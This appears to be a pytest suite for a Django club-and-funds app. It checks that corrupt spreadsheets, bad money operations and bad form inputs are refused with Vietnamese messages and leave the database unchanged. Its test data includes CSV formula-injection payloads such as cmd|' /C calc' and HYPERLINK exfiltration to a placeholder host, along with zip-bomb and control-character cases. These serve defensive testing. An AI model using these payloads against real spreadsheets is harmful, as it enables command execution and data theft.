"""The bad-input corpus: broken files, wrong values and refused money operations, each with the
Vietnamese message it must get and the proof that nothing was written (every project table, rows
and their contents, is the same before and after: tests/snapshots.py).

Files are in tests/corpus/ (made by tests/corpus/make_corpus.py); the big ones (250,000 rows, a
10 MB cell, a file over 20 MB) are made here, in tmp_path. Each file goes through the import engine
(`run_import`, commit asked) and through its management command (exit code 1). Money goes through
the funds services; dates and duplicates typed in the browser through the forms.
"""

from __future__ import annotations

import datetime
import io
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from funds.models import EntryKind, FundKind, RatePeriod, RepaymentPlan, Source
from funds.services import (
    fund_entry_add,
    fund_entry_reverse,
    fund_transfer,
    loan_disburse,
    loan_repay,
    loan_write_off,
    repayment_reverse,
)
from members.models import LeaveReason
from members.services import member_leave
from sheets.engine import run_import
from tests.conftest import make_member
from tests.snapshots import changed_tables, db_snapshot

pytestmark = pytest.mark.django_db

CORPUS = Path(__file__).parent / "corpus"
D = datetime.date
NOT_READABLE = "Không đọc được tệp: tệp bị hỏng hoặc không phải bảng tính."
NO_HEADER = "Không tìm thấy dòng tiêu đề của bảng."
NOT_A_SHEET = "chứ không phải bảng tính .xlsx, .xls, .ods hay .csv"
TEXT_NOT_A_SHEET = "nhưng không phải bảng tính: nội dung là chữ thường (tệp văn bản đổi tên)."
CONTROL = "Ô này có ký tự điều khiển không in được"
TOO_MANY_ROWS = "quá giới hạn 200.000 dòng mỗi lần nhập"


@dataclass(frozen=True)
class BadFile:
    file: str
    kind: str
    message: str
    exit_code: int = 1  # of the import_<kind> command

    def __str__(self) -> str:
        return self.file


FILES = [
    # Not a readable spreadsheet.
    BadFile("empty.xlsx", "members", "Tệp rỗng (0 byte): không có gì để nhập."),
    BadFile("truncated.xlsx", "members", NOT_READABLE),
    BadFile("corrupt.xlsx", "members", NOT_READABLE),
    BadFile("word-renamed.xlsx", "members", NOT_READABLE),
    BadFile("binary.csv", "members", NOT_READABLE),
    BadFile("utf16-no-bom.csv", "members", NOT_READABLE),
    BadFile("locked.xlsx", "members", "Tệp đang được đặt mật khẩu nên không đọc được."),
    BadFile("pdf-named.xlsx", "members", f"Tệp này là một tệp PDF {NOT_A_SHEET}"),
    BadFile("photo.xlsx", "members", f"Tệp này là một tệp ảnh {NOT_A_SHEET}"),
    BadFile("html-saved-as.xls", "members", f"Tệp này là một trang web (HTML) {NOT_A_SHEET}"),
    BadFile("xml2003.xls", "members", "Tệp này là một bảng tính dạng XML của Excel 2003"),
    # Readable, but no table to import.
    BadFile("only-headers.xlsx", "members", "Tệp không có dòng dữ liệu nào dưới dòng tiêu đề (dòng 1"),
    BadFile("no-header.xlsx", "members", NO_HEADER),
    BadFile("header-too-low.xlsx", "members", NO_HEADER),
    BadFile("members-sent-as-loans.xlsx", "loans", NO_HEADER),
    # Rows that are wrong: every one is reported with its row and column, and none is written.
    BadFile("legacy.xls", "members", "“một chín năm mốt” không phải năm sinh (ví dụ 1952)."),
    BadFile("wrong-types.xlsx", "members", "“Giàu” không phải hoàn cảnh gia đình hợp lệ"),
    BadFile("future-dates.xlsx", "members", "Ngày tham gia ở tương lai."),
    BadFile("impossible-dates.xlsx", "members", "“31/02/2024” không phải ngày có thật."),
    BadFile("duplicate-ids-in-file.xlsx", "members", "Số CCCD 038150000111 trùng với dòng 3 của tệp."),
    BadFile(
        "duplicate-id-in-database.xlsx", "members", "Số CCCD 038160000001 đã là của thành viên Lò Văn Bình"
    ),
    BadFile("formula-injection.xlsx", "members", "bắt đầu bằng dấu + như một công thức bảng tính"),
    # Other free text that starts like a formula: refused like a name (places.text.NoFormulaStart).
    BadFile("members-village-formula.csv", "members", "Thôn/Tổ dân phố “@SUM(A1)” bắt đầu bằng dấu @"),
    BadFile("members-name-behind-a-tab.csv", "members", "Họ và tên “=1+1” bắt đầu bằng dấu = như một công thức"),
    BadFile("clubs-village-formula.xlsx", "clubs", 'Thôn/Tổ dân phố “=HYPERLINK("http://x/?"&A1,"Bấm")” bắt đầu'),
    BadFile("clubs-decision-formula.csv", "clubs", "Số quyết định “+1” bắt đầu bằng dấu + như một công thức"),
    BadFile("loans-purpose-formula.xlsx", "loans", "Mục đích “-2+3+cmd|' /C calc'!A0” bắt đầu bằng dấu -"),
    BadFile("contributions-note-formula.csv", "contributions", 'Ghi chú “=HYPERLINK("http://x/?"&A1,"Bấm")” bắt'),
    BadFile("mixed-encodings.xlsx", "members", "“NguyÔn ThÞ Hoµ” được gõ bằng bảng mã cũ TCVN3 (ABC)"),
    BadFile("utf16-bom.csv", "members", "“Không rõ” không phải giới tính hợp lệ"),
    BadFile("name-too-long.xlsx", "members", "Họ và tên dài quá 120 ký tự."),
    BadFile("unknown-club.xlsx", "members", "Không có CLB mã “KHONG-CO-01” trong hệ thống."),
    # Money and clubs.
    BadFile("loans-repaid-above-debt.xlsx", "loans", "Dư nợ lớn hơn số tiền vay."),
    BadFile("loans-negative-amount.xlsx", "loans", "Số tiền vay “-5.000.000” không phải số tiền"),
    BadFile("loans-impossible-date.xlsx", "loans", "“31/02/2024” không phải ngày có thật."),
    BadFile("loans-not-a-member.xlsx", "loans", "CLB không có thành viên “Lò Văn Ai” sinh năm 1950"),
    BadFile("contributions-negative.xlsx", "contributions", "Số tiền “-500.000” không phải số tiền"),
    BadFile("contributions-future-date.xlsx", "contributions", "Ngày ở tương lai."),
    BadFile("contributions-amount-in-words.xlsx", "contributions", "“năm trăm nghìn” không phải số tiền"),
    BadFile("contributions-unknown-fund.xlsx", "contributions", "“Quỹ khuyến học” không phải quỹ hợp lệ"),
    BadFile("clubs-unknown-commune.xlsx", "clubs", "Tỉnh Lai Châu không có xã/phường “Xã Không Có”"),
    BadFile("clubs-launch-before-decision.xlsx", "clubs", "Ngày ra mắt không được trước ngày quyết định"),
    # Hostile (issue 15): made to eat memory or time (tests/corpus/hostile.py). Before, a reader built
    # the grid from A1 to the last cell: XFD1048576 asked for 549 GB and aborted the process.
    BadFile("far-cell-xfd1048576.xlsx", "members", f"Ô XFD1048576 nằm ở dòng 1.048.576, {TOO_MANY_ROWS}"),
    BadFile("far-cell-z1048576.xlsx", "members", f"Ô Z1048576 nằm ở dòng 1.048.576, {TOO_MANY_ROWS}"),
    BadFile("far-cell-zz199000.xlsx", "members", "Ô ZZ199000 nằm ở cột thứ 702, quá giới hạn 200 cột"),
    BadFile("far-cell-lowercase-ref.xlsx", "members", "Ô ZZ199000 nằm ở cột thứ 702, quá giới hạn 200 cột"),
    BadFile(
        "far-cell-xfd1.xlsx", "members", "Ô XFD1 nằm ở cột thứ 16.384, quá giới hạn 200 cột (đến cột GR)"
    ),
    BadFile(
        "far-area-gr199000.xlsx",
        "members",
        "Vùng dữ liệu trải từ A1 đến GR199000: 39.800.000 ô, quá giới hạn",
    ),
    BadFile(
        "shared-strings-bomb.xlsx",
        "members",
        "“xl/sharedStrings.xml” của tệp giải nén ra 256 MB, quá giới hạn 50 MB",
    ),
    BadFile(
        "sheet-bomb.xlsx",
        "members",
        "“xl/worksheets/sheet1.xml” của tệp giải nén ra 256 MB, quá giới hạn 200 MB",
    ),
    BadFile("shared-strings-size-lie.xlsx", "members", NOT_READABLE),
    BadFile("sheet-size-lies.xlsx", "members", NOT_READABLE),
    BadFile("long-tag.xlsx", "members", NOT_READABLE),
    BadFile("many-parts.xlsx", "members", "Tệp chứa 2.100 phần, quá giới hạn 2.000"),
    BadFile("text-renamed.xlsx", "members", f"Tệp có đuôi .xlsx {TEXT_NOT_A_SHEET}"),
    BadFile("text-renamed.xls", "members", f"Tệp có đuôi .xls {TEXT_NOT_A_SHEET}"),
    BadFile("text-renamed.ods", "members", f"Tệp có đuôi .ods {TEXT_NOT_A_SHEET}"),
    BadFile("far-cell-iv65536.xls", "members", "Ô IV65536 nằm ở cột thứ 256, quá giới hạn 200 cột"),
    BadFile(
        "far-area-gr30000.xls", "members", "Vùng dữ liệu trải từ A1 đến GR30000: 6.000.000 ô, quá giới hạn"
    ),
    BadFile("far-cell-repeated.ods", "members", "Ô WQK6003 nằm ở cột thứ 16.001, quá giới hạn 200 cột"),
    BadFile("far-rows-repeated.ods", "members", f"Ô D1000003 nằm ở dòng 1.000.003, {TOO_MANY_ROWS}"),
    # Control characters: before, the preview said 0 invalid and the write ended in a traceback.
    BadFile("nul-after-4kb.csv", "members", f"{CONTROL} (mã U+0000, ở vị trí 3)"),
    BadFile("nul-escaped-in-cell.xlsx", "members", f"{CONTROL} (mã U+0000, ở vị trí 7)"),
    BadFile("escape-char-in-cell.xlsx", "members", f"{CONTROL} (mã U+001B, ở vị trí 7)"),
    BadFile("bell-in-cell.csv", "members", f"{CONTROL} (mã U+0007, ở vị trí 7)"),
    # Loans: the preview checks what the loan form checks (before: failed at the commit, or went in).
    BadFile("loans-negative-term.xlsx", "loans", "Thời hạn vay phải từ 1 đến 120 tháng."),
    BadFile("loans-zero-term.xlsx", "loans", "Thời hạn vay phải từ 1 đến 120 tháng."),
    BadFile("loans-principal-1e20.xlsx", "loans", "vượt quá giới hạn 10.000.000.000 đ cho một lần ghi"),
    BadFile("loans-principal-1e15.xlsx", "loans", "Số tiền 1.000.000.000.000.000 đ vượt quá giới hạn"),
    BadFile("loans-cash-negative.xlsx", "loans", "Quỹ tăng thu nhập chỉ còn 7.500.000 đ tiền mặt"),
]


@pytest.fixture
def world(club, other_club):
    """What the corpus files refer to: Lò Thị Lan (1950) in LCH-TU-01 with a loan, and a citizen ID
    already held by Lò Văn Bình in another club."""
    make_member(other_club, full_name="Lò Văn Bình", sex="M", citizen_id="038160000001")
    lan = make_member(club, full_name="Lò Thị Lan", birth_year=1950, joined_on=D(2024, 1, 2))
    income = club.funds.get(kind=FundKind.INCOME)
    activity = club.funds.get(kind=FundKind.ACTIVITY)
    contribution = fund_entry_add(fund=income, kind=EntryKind.CONTRIBUTION, amount=10_000_000,
                                  entry_date=D(2024, 1, 5), source=Source.STATE, recorded_by=None)  # fmt: skip
    fund_entry_add(fund=activity, kind=EntryKind.CONTRIBUTION, amount=300_000, entry_date=D(2024, 1, 5),
                   source=Source.MEMBERS, recorded_by=None)  # fmt: skip
    loan = loan_disburse(fund=income, member=lan, disbursed_on=D(2024, 2, 1), principal=3_000_000,
                         purpose="livestock", term_months=6, interest_rate=0, rate_period=RatePeriod.MONTH,
                         plan=RepaymentPlan.EQUAL_MONTHLY, recorded_by=None)  # fmt: skip
    repayment = loan_repay(loan=loan, paid_on=D(2024, 3, 1), principal=500_000, interest=0, recorded_by=None)
    return {"club": club, "lan": lan, "income": income, "activity": activity, "loan": loan,
            "repayment": repayment, "contribution": contribution}  # fmt: skip


def _said(report) -> str:
    return " ".join([report.refused, *report.notices, *(issue.message for issue in report.errors)])


def _command(kind: str, path: Path, club) -> tuple[int, str]:
    out = io.StringIO()
    args = [f"import_{kind}", str(path)] + (["--club", club.code] if kind == "members" else [])
    try:
        call_command(*args, stdout=out)
    except CommandError as error:
        return error.returncode, out.getvalue() + str(error)
    return 0, out.getvalue()


def _assert_refused_everywhere(kind: str, path: Path, club, message: str, exit_code: int = 1) -> None:
    before = db_snapshot()
    report = run_import(kind, path, club=club if kind == "members" else None, commit=True)
    assert message in _said(report), _said(report)
    assert not report.committed
    assert changed_tables(before, db_snapshot()) == []
    code, output = _command(kind, path, club)
    assert (code, message in output) == (exit_code, True), output
    assert changed_tables(before, db_snapshot()) == []


@pytest.mark.parametrize("case", FILES, ids=str)
def test_a_bad_file_is_refused_and_writes_nothing(case, world):
    _assert_refused_everywhere(case.kind, CORPUS / case.file, world["club"], case.message, case.exit_code)


def test_the_corpus_files_are_all_in_the_table():
    files = {path.name for path in CORPUS.iterdir() if path.suffix != ".py"}
    assert files == {case.file for case in FILES}


# --- the big inputs, made here ---------------------------------------------------------------------------

ROWS_OVER_THE_LIMIT = 250_000


def _write_big_xlsx(path: Path, rows: int) -> None:
    """An xlsx written directly (openpyxl would take most of a minute for 250,000 rows)."""
    body = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>Lò Thị Lan {n}</t></is></c><c r="B{n}"><v>1950</v></c>'
        f'<c r="C{n}" t="inlineStr"><is><t>Nữ</t></is></c></row>'
        for n in range(2, rows + 2)
    )
    header = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Họ và tên</t></is></c><c r="B1" t="inlineStr"><is><t>Năm sinh'
        '</t></is></c><c r="C1" t="inlineStr"><is><t>Giới tính</t></is></c></row>'
    )
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="'
            'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        )
        book.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'relationships"><Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>",
        )
        book.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0"?><workbook {ns} xmlns:r="{rel}"><sheets><sheet name="DS" sheetId="1" '
            'r:id="rId1"/></sheets></workbook>',
        )
        book.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'relationships"><Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
            "</Relationships>",
        )
        book.writestr(
            "xl/worksheets/sheet1.xml",
            f'<?xml version="1.0"?><worksheet {ns}><sheetData>{header}{body}</sheetData></worksheet>',
        )


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_250000_rows_are_refused_quickly_by_the_200000_row_limit(suffix, world, tmp_path):
    path = tmp_path / f"nhieu-dong.{suffix}"
    if suffix == "xlsx":
        _write_big_xlsx(path, ROWS_OVER_THE_LIMIT)
    else:
        lines = "".join(f"Lò Thị Lan {n},1950,Nữ\n" for n in range(ROWS_OVER_THE_LIMIT))
        path.write_text("Họ và tên,Năm sinh,Giới tính\n" + lines, encoding="utf-8")
    started = time.perf_counter()
    _assert_refused_everywhere("members", path, world["club"], "quá giới hạn 200.000 dòng mỗi lần nhập")
    assert time.perf_counter() - started < 60  # twice (engine and command), before any row is checked


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_a_10_mb_cell(suffix, world, tmp_path):
    from tests.sheets.builders import write_csv, write_xlsx

    rows = [["Họ và tên", "Năm sinh", "Giới tính"], ["Lò Thị " + "Lan" * 3_500_000, 1950, "Nữ"]]
    path = (write_xlsx if suffix == "xlsx" else write_csv)(tmp_path / f"o-lon.{suffix}", rows)
    message = "Họ và tên dài quá 120 ký tự." if suffix == "xlsx" else "có một ô dài bất thường"
    _assert_refused_everywhere("members", path, world["club"], message)


def test_a_file_over_20_mb(world, tmp_path):
    path = tmp_path / "qua-lon.xlsx"
    with path.open("wb") as handle:
        handle.truncate(20 * 1024 * 1024 + 1)
    _assert_refused_everywhere("members", path, world["club"], "Mỗi lần chỉ nhập tệp tối đa 20 MB")


# --- money refused by the funds services --------------------------------------------------------------------


def _contribution(w, amount):
    return fund_entry_add(fund=w["income"], kind=EntryKind.CONTRIBUTION, amount=amount, entry_date=D(2024, 6, 1),
                          source=Source.MEMBERS, recorded_by=None)  # fmt: skip


def _loan(w, **changes):
    fields = {"fund": w["income"], "member": w["lan"], "disbursed_on": D(2024, 6, 1), "principal": 2_000_000,
              "purpose": "trade", "term_months": 6, "interest_rate": 0, "rate_period": RatePeriod.MONTH,
              "plan": RepaymentPlan.EQUAL_MONTHLY, "recorded_by": None}  # fmt: skip
    return loan_disburse(**(fields | changes))


def _repay(w, principal=100_000, interest=0, paid_on=None):
    paid_on = paid_on or D(2024, 4, 1)
    return loan_repay(
        loan=w["loan"], paid_on=paid_on, principal=principal, interest=interest, recorded_by=None
    )


def _leaves(w):
    member_leave(member=w["lan"], left_on=D(2024, 5, 1), reason=LeaveReason.MOVED)


def _reverse_repayment(w):
    return repayment_reverse(repayment=w["repayment"], note="Ghi nhầm", recorded_by=None)


MONEY = {
    "a repayment above the debt": (
        lambda w: _repay(w, principal=2_600_000),
        "lớn hơn số còn nợ (2.500.000 đ)",
    ),
    "a negative repayment": (lambda w: _repay(w, principal=-100_000), "Số tiền không được âm."),
    "an empty repayment": (lambda w: _repay(w, principal=0, interest=0), "Hãy nhập tiền gốc hoặc tiền lãi."),
    "a repayment before the loan": (
        lambda w: _repay(w, paid_on=D(2024, 1, 1)),
        "không được trước ngày giải ngân",
    ),
    "a repayment in the future": (
        lambda w: _repay(w, paid_on=D(2099, 1, 1)),
        "Không ghi sổ cho ngày trong tương lai.",
    ),
    "a negative contribution": (
        lambda w: _contribution(w, -500_000),
        "Số tiền phải là số nguyên đồng lớn hơn 0.",
    ),
    "a zero contribution": (lambda w: _contribution(w, 0), "Số tiền phải là số nguyên đồng lớn hơn 0."),
    "a fractional amount": (lambda w: _contribution(w, 1500.5), "Số tiền phải là số nguyên đồng lớn hơn 0."),
    "True as an amount": (lambda w: _contribution(w, True), "Số tiền phải là số nguyên đồng lớn hơn 0."),
    "an expense above the cash": (
        lambda w: fund_entry_add(
            fund=w["activity"],
            kind=EntryKind.EXPENSE,
            amount=400_000,
            entry_date=D(2024, 6, 1),
            category="meetings",
            recorded_by=None,
        ),
        "Quỹ hoạt động chỉ còn 300.000 đ tiền mặt",
    ),  # fmt: skip
    "an expense from the income fund": (
        lambda w: fund_entry_add(
            fund=w["income"],
            kind=EntryKind.EXPENSE,
            amount=100_000,
            entry_date=D(2024, 6, 1),
            category="meetings",
            recorded_by=None,
        ),
        "Chi hoạt động ghi ở quỹ hoạt động",
    ),  # fmt: skip
    "a loan above the cash": (lambda w: _loan(w, principal=8_000_000), "không thể chi 8.000.000 đ"),
    "a back-dated loan spending later money": (
        lambda w: _loan(w, principal=1_000_000, disbursed_on=D(2024, 1, 3)),
        "Quỹ tăng thu nhập chỉ còn 0 đ tiền mặt",
    ),
    "a loan with an impossible interest rate": (
        lambda w: _loan(w, interest_rate=-1),
        "Lãi suất không được âm.",
    ),
    "a loan repaid above its principal": (
        lambda w: _loan(w, opening_repaid=2_500_000),
        "Gốc đã trả trước phải từ 0",
    ),
    "a loan to someone who left": (_loan, "Người vay phải là thành viên đang sinh hoạt của CLB"),
    "a transfer above the cash": (
        lambda w: fund_transfer(
            from_fund=w["activity"],
            to_fund=w["income"],
            amount=1_000_000,
            entry_date=D(2024, 6, 1),
            note="",
            recorded_by=None,
        ),
        "không thể chi 1.000.000 đ",
    ),  # fmt: skip
    "a transfer to the same fund": (
        lambda w: fund_transfer(
            from_fund=w["income"],
            to_fund=w["income"],
            amount=1_000,
            entry_date=D(2024, 6, 1),
            note="",
            recorded_by=None,
        ),
        "Hãy chọn hai quỹ khác nhau.",
    ),  # fmt: skip
    "reversing money already lent out": (
        lambda w: fund_entry_reverse(
            entry=w["contribution"], entry_date=D(2024, 6, 1), note="Ghi nhầm", recorded_by=None
        ),
        "không thể chi 10.000.000 đ",
    ),  # fmt: skip
    "reversing a repayment twice": (_reverse_repayment, "Lần trả nợ này đã được hủy."),
    "a write-off without an approver": (
        lambda w: loan_write_off(
            loan=w["loan"],
            written_off_on=D(2024, 6, 1),
            reason="Mất khả năng trả",
            approved_by=" ",
            recorded_by=None,
        ),
        "Hãy ghi người phê duyệt xóa nợ.",
    ),  # fmt: skip
}


# What happened before the refused operation (recorded before the snapshot).
MONEY_BEFORE = {"a loan to someone who left": _leaves, "reversing a repayment twice": _reverse_repayment}


@pytest.mark.parametrize("name", sorted(MONEY))
def test_a_refused_money_operation_writes_nothing(name, world):
    operation, message = MONEY[name]
    if name in MONEY_BEFORE:
        MONEY_BEFORE[name](world)
    before = db_snapshot()
    with pytest.raises(ValidationError) as refused:
        operation(world)
    assert message in " ".join(refused.value.messages), refused.value.messages
    assert changed_tables(before, db_snapshot()) == []


# --- typed in the browser ------------------------------------------------------------------------------------------


def _member_form(w, **fields):
    data = {"club": w["club"].pk, "full_name": "Lò Thị Ún", "birth_year": "1958", "sex": "F", "ethnicity": "2",
            "household": "none", "joined_on": "2024-03-01"}  # fmt: skip
    return reverse("members:member-create"), data | fields


FORMS = {
    "a birth date of 31/02/2024": (
        lambda w: _member_form(w, birth_date="31/02/2024"),
        "Nhập một ngày hợp lệ.",
    ),
    "a birth date in the future": (
        lambda w: _member_form(w, birth_date="2099-01-01"),
        "Ngày sinh không được ở tương lai.",
    ),
    "a join date of 30/02/2024": (lambda w: _member_form(w, joined_on="2024-02-30"), "Nhập một ngày hợp lệ."),
    "a citizen ID already in the register": (
        lambda w: _member_form(w, citizen_id="038160000001"),
        "Số CCCD này đã có trong hệ thống, ở một địa bàn khác.",
    ),
    "a citizen ID of 11 digits": (
        lambda w: _member_form(w, citizen_id="03816000000"),
        "Số CCCD phải gồm đúng 12 chữ số.",
    ),
    "a NUL in a name (Django's English message before)": (
        lambda w: _member_form(w, full_name="Lò Thị\x00 Ún"),
        "Không được có ký tự rỗng (NUL, mã 0)",
    ),
    "an escape character in a name": (
        lambda w: _member_form(w, full_name="Lò Thị\x1b[31m Ún"),
        "Họ và tên có ký tự điều khiển không in được (mã U+001B",
    ),
    "the same name and year behind a zero-width space": (
        lambda w: _member_form(w, full_name="Lò Thị\u200b La\u202en", birth_year="1950"),
        "Trong xã đã có người cùng họ tên và năm sinh",
    ),
    "a name that is a formula": (
        lambda w: _member_form(w, full_name='=HYPERLINK("http://x","Bấm")'),
        "bắt đầu bằng dấu = như một công thức bảng tính",
    ),
    "a village that is a formula": (
        lambda w: _member_form(w, village="@SUM(A1)"),
        "Thôn/tổ dân phố “@SUM(A1)” bắt đầu bằng dấu @ như một công thức bảng tính",
    ),
    "a contribution note that is a formula": (
        lambda w: (
            reverse("funds:entry-add", args=[w["club"].pk]),
            {"fund": w["income"].pk, "kind": "contribution", "entry_date": "01/03/2024", "amount": "500.000",
             "source": "members", "note": "+1+cmd|' /C calc'!A0"},
        ),
        "Ghi chú “+1+cmd|&#x27; /C calc&#x27;!A0” bắt đầu bằng dấu +",
    ),  # fmt: skip
    "a repayment above the debt": (
        lambda w: (
            reverse("funds:loan-repay", args=[w["loan"].pk]),
            {"paid_on": "2024-04-01", "principal": "2,6 triệu"},
        ),
        "lớn hơn số còn nợ (2.500.000 đ)",
    ),
    "a negative repayment": (
        lambda w: (
            reverse("funds:loan-repay", args=[w["loan"].pk]),
            {"paid_on": "2024-04-01", "principal": "-500.000"},
        ),
        "Số tiền không hợp lệ.",
    ),
    "a contribution on 31/02/2024": (
        lambda w: (
            reverse("funds:entry-add", args=[w["club"].pk]),
            {
                "fund": w["income"].pk,
                "kind": "contribution",
                "entry_date": "31/02/2024",
                "amount": "500.000",
                "source": "members",
            },
        ),
        "Nhập một ngày hợp lệ.",
    ),  # fmt: skip
}


@pytest.mark.parametrize("name", sorted(FORMS))
def test_a_refused_form_writes_nothing(name, world, client_for, staff):
    url, data = FORMS[name][0](world)
    client = client_for(staff)  # logging in writes the last login: before the snapshot
    before = db_snapshot()
    response = client.post(url, data)
    assert response.status_code == 200
    assert FORMS[name][1] in response.content.decode()
    assert changed_tables(before, db_snapshot()) == []


def test_the_corpus_has_at_least_30_broken_inputs():
    generated = 2 + 2 + 1  # 250,000 rows (xlsx, csv), a 10 MB cell (xlsx, csv), over 20 MB
    assert len(FILES) + generated + len(MONEY) + len(FORMS) >= 30
    # Issue 15: at least 60 bad files, each in FILES (a Vietnamese message, nothing written).
    on_disk = {p.name for p in CORPUS.iterdir() if p.is_file() and p.suffix != ".py"}
    assert len(on_disk) >= 60
    assert on_disk == {bad.file for bad in FILES}
